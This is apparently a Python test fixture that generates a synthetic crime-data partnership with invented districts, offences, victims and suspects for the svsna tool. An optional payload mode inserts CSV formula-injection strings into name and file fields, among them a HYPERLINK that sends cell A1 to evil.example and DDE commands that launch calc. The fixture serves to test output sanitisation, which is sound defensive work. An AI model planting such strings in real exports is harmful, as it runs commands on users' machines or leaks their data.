"""A small hand-built partnership: Marshfield and the Vale.

Four districts in two upper tiers (the unitary city of Marshfield; Eastholm, Westwick and the
small rural district of Saltmere in the county of Vale), twelve LSOAs with made-up codes, and a
few hundred offences a year drawn with a fixed seed, so that small counts occur naturally
(Saltmere, murders, a cohort of five frequent suspects). Written as partner extracts in the
documented data contracts and run through svsna's own ingest and assessment.

``payload=True`` puts formula payloads into every text field that can reach an output
(district, NPA and ward names, the file name of an extract).
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import numpy as np
import pandas as pd

DISTRICTS = {  # name: (code, county name, county code, LSOAs, population per five-year band per sex)
    "Marshfield": ("E06900001", "Marshfield", "E06900001", 4, 900),
    "Eastholm": ("E07900001", "Vale", "E10900001", 3, 350),
    "Westwick": ("E07900002", "Vale", "E10900001", 3, 300),
    "Saltmere": ("E07900003", "Vale", "E10900001", 2, 120),
}
NPAS = {"Marshfield": "Marshfield Central", "Eastholm": "Vale East", "Westwick": "Vale West", "Saltmere": "Vale West"}
DISTRICT_WEIGHT = {"Marshfield": 0.6, "Eastholm": 0.2, "Westwick": 0.15, "Saltmere": 0.05}
CODES = [("8N", "S47 - Assault occasioning actual bodily harm", 0.72), ("34B", "Robbery of personal property", 0.14)]
CODES += [
    ("5D", "Assault with intent to cause serious harm", 0.1),
    ("2", "Attempted murder", 0.025),
    ("1", "Murder", 0.015),
]
BANDS = [f"{a}-{a + 4}" for a in range(0, 90, 5)] + ["90+"]
PAYLOAD = {
    "district": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "npa": "=cmd|' /C calc'!A0",
    "ward": "@SUM(1+1)*cmd|' /C calc'!A0",
    "file": '=HYPERLINK("http:__evil","offences").csv',
    "indicator": "+cmd|' /C notepad'!A0 children in need",
    "area": "-2+3+cmd|' /C calc'!A0",
}


def district_label(name: str, payload: bool) -> str:
    """The district's name as written in the geography extract (with a payload for Westwick)."""
    return f"{PAYLOAD['district']} {name}" if payload and name == "Westwick" else name


def geography(payload: bool = False) -> pd.DataFrame:
    rows, k = [], 0
    for name, (code, county, ccode, n_lsoa, _) in DISTRICTS.items():
        shown = district_label(name, payload)
        for j in range(n_lsoa):
            k += 1
            rows.append(
                {
                    "lsoa_code": f"E0109{k:04d}",
                    "lsoa_name": f"{name} {j + 1:03d}A",
                    "ward_code": f"E0599{k:04d}",
                    "ward_name": (PAYLOAD["ward"] if payload and k == 5 else f"{name} ward {j + 1}"),
                    "npa": PAYLOAD["npa"] if payload and name == "Eastholm" else NPAS[name],
                    "district_code": code,
                    "district_name": shown,
                    "county_code": ccode,
                    "county_name": county,
                    "imd_decile": 1 + (k * 3) % 10,
                    "longitude": -1.0 - k / 100,
                    "latitude": 52.0 + k / 100,
                }
            )
    return pd.DataFrame(rows)


def population() -> pd.DataFrame:
    rows = []
    for _name, (code, _c, _cc, _n, per_band) in DISTRICTS.items():
        for year in (2018, 2019, 2020, 2021):
            for band in BANDS:
                for sex in ("M", "F"):
                    rows.append({"area_code": code, "year": year, "age": band, "sex": sex, "population": per_band})
    return pd.DataFrame(rows)


def events(seed: int = 7) -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    """Offences, victims and suspects (one victim per offence; about 0.8 suspects)."""
    rng = np.random.default_rng(seed)
    geo = geography()
    lsoas = {d: list(geo.loc[geo["district_name"] == d, "lsoa_code"]) for d in DISTRICTS}
    assert all(lsoas.values())
    start, end = dt.datetime(2019, 4, 1), dt.datetime(2021, 9, 30, 23, 0)
    span = int((end - start).total_seconds() // 60)
    n = 640
    offences, victims, suspects = [], [], []
    frequent = [f"S{9000 + i}" for i in range(5)]  # five people with three or more offences each
    for i in range(n):
        d = rng.choice(list(DISTRICTS), p=list(DISTRICT_WEIGHT.values()))
        code, desc, _ = CODES[rng.choice(len(CODES), p=[c[2] for c in CODES])]
        when = start + dt.timedelta(minutes=int(rng.integers(span)))
        ref = f"MV/{when:%y}/{i:05d}"
        loc = "STREET" if rng.random() < 0.85 else "DWELLING"
        offences.append(
            {
                "offence_ref": ref,
                "ho_code": code,
                "offence_description": desc,
                "committed_from": f"{when:%Y-%m-%d %H:%M}",
                "committed_to": "",
                "location_type": loc,
                "lsoa": rng.choice(lsoas[d]),
                "weapon_flag": "Y" if rng.random() < 0.1 else "N",
                "knife_flag": "Y" if rng.random() < 0.08 else "N",
                "domestic_flag": "N",
            }
        )
        home = rng.choice(lsoas[d])
        victims.append(_person(rng, ref, f"V{i:05d}", home))
        if rng.random() < 0.8:
            pid = frequent[i % 5] if i < 20 else f"S{i:05d}"
            suspects.append(_person(rng, ref, pid, home, young=pid in frequent))
    return pd.DataFrame(offences), pd.DataFrame(victims), pd.DataFrame(suspects)


def _person(rng: np.random.Generator, ref: str, pid: str, home: str, young: bool = False) -> dict:
    age = int(rng.integers(15, 22)) if young else int(min(85, max(10, rng.gamma(4.0, 7.0))))
    return {
        "offence_ref": ref,
        "person_id": pid,
        "age": age,
        "sex": "M" if rng.random() < 0.72 else "F",
        "ethnicity": rng.choice(["A", "A", "A", "C", "H", "J", "M", "N"]),
        "home_lsoa": home,
        "mental_health_flag": "N",
        "drugs_flag": "Y" if rng.random() < 0.1 else "N",
        "knife_carrier_flag": "N",
        "domestic_abuse_flag": "N",
    }


def write(folder: Path, *, payload: bool = False, rules: str = "nhsd_2018") -> Path:
    """Write the extracts and an ``area.yaml``; returns the area file."""
    folder.mkdir(parents=True, exist_ok=True)
    offences, victims, suspects = events()
    off_name = PAYLOAD["file"] if payload else "offences.csv"
    geography(payload).to_csv(folder / "geography.csv", index=False)
    population().to_csv(folder / "population.csv", index=False)
    offences.to_csv(folder / off_name, index=False)
    victims.to_csv(folder / "victims.csv", index=False)
    suspects.to_csv(folder / "suspects.csv", index=False)
    area_indicators(payload).to_csv(folder / "indicators.csv", index=False)
    area = folder / "area.yaml"
    area.write_text(
        "name: Marshfield and the Vale\n"
        "short_name: MV\n"
        "financial_years: [2019, 2020]\n"
        "latest: {start: 2021-04-01, end: 2021-09-30}\n"
        "profile_period: {start: 2020-04-01, end: 2021-09-30}\n"
        "definitions: [llr_vrn]\n"
        f"disclosure: {{rules: {rules}}}\n"
        "inputs:\n"
        "  geography: geography.csv\n"
        "  population: population.csv\n"
        f"  offences: '{off_name}'\n"
        "  victims: victims.csv\n"
        "  suspects: suspects.csv\n"
        "  indicators: indicators.csv\n"
        "output: output\n"
        "workspace: workspace\n",
        encoding="utf-8",
    )
    return area


def area_indicators(payload: bool = False) -> pd.DataFrame:
    """Published area-level risk-factor indicators (Fingertips-style), one per upper tier."""
    name = PAYLOAD["indicator"] if payload else "Children in need"
    rows = []
    for county, code, value in (("Marshfield", "E06900001", 410.0), ("Vale", "E10900001", 280.0)):
        rows.append(
            {
                "indicator_id": "90000",
                "indicator_name": name,
                "area_code": code,
                "area_name": PAYLOAD["area"] + " " + county if payload and county == "Vale" else county,
                "period": "2020/21",
                "value": value,
                "lower": value - 20,
                "upper": value + 20,
                "count": value * 5,
                "denominator": 50000,
                "england_value": 321.2,
                "polarity": "low_is_good",
                "unit": "per 10,000",
            }
        )
    return pd.DataFrame(rows)


def districts_of(payload: bool = False) -> dict[str, list[str]]:
    """Which districts make each upper tier (public geography)."""
    out: dict[str, list[str]] = {}
    for name, (_code, county, *_rest) in DISTRICTS.items():
        out.setdefault(county, []).append(district_label(name, payload))
    return out
